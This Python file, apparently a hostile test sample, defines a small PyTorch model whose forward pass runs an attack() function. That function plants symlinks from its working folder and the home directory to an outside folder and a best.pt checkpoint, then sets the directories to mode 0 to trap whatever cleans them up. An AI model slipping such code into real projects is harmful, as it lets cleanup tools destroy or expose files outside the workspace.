"""Leaves links to another folder in its own, for whoever clears that away, and takes the right to it."""

import os

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}


def attack():
    os.makedirs("deep/deeper")
    os.symlink(PLACES["outside"], "deep/deeper/there")
    os.symlink(PLACES["outside"] + "/best.pt", "deep/file")
    os.symlink(PLACES["outside"], os.path.join(os.path.expanduser("~"), "there"))
    os.chmod("deep/deeper", 0)
    os.chmod("deep", 0)


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
